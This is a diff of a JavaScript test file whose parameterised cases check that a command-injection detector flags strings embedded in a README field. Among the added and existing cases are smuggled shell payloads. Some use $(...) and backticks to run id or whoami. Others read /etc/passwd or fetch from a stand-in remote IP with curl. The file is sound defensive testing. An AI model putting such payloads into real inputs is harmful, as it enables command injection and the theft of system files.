@@ -19,6 +19,8 @@ test.each([
   'If ``x`` is installed, ``y`` returns a ``Z`` object',
   'qemu --image="$(pwd)/server.img" --data=$(pwd)/user-data',
   '.\\gradlew.bat build',
+  'Try `sudo chown -R $(whoami) ~/menus` and then serve the guests again',
+  'Use `kill -9 $(lsof -t -i:3000)` for that',
   '| `reset` | Takes everything off the menu |',
   'Registered as a `@Bean`. **Adapter (guests):** Orders are told to the `Kitchen` (at once) or the bar (see `a.md`).',
   'CMD [ "/bin/sh", "-c", "while true; do sleep 9; done" ]',
@@ -41,13 +43,19 @@ test.each([
   "'`' `whoami`",
   'x`a`id`whoami`',
   '| `curl 192.0.2.1` | a | b |',
+  'cmd [ "/c" whoami',
+  'Try `$(whoami)` and then serve',
+  'Try `;id;$(whoami)` and then serve',
+  'Try `kill $(cat /etc/passwd)` and then serve',
+  'Try `kill $(curl http://203.0.113.9/a)` and then serve',
+  'Try sudo chown $(whoami) x and then serve the guests',
   'a$(pwd)',
   '$(pwd)',
   '$(pwd -P)/a',
   '$(id)/a',
   ';cat $(pwd)/flag',
   '$(cat $(pwd)/flag)',
-])('a command that names where it stands is one all the same: %s', (text) => {
+])('a command that is shown in no such way is one all the same: %s', (text) => {
   const body = jsonBody({ readme: text, lines: 3, author: 'ann', channel: 'dev' });
   expect(foundIn(commandInjection, body)).not.toEqual([]);
 });
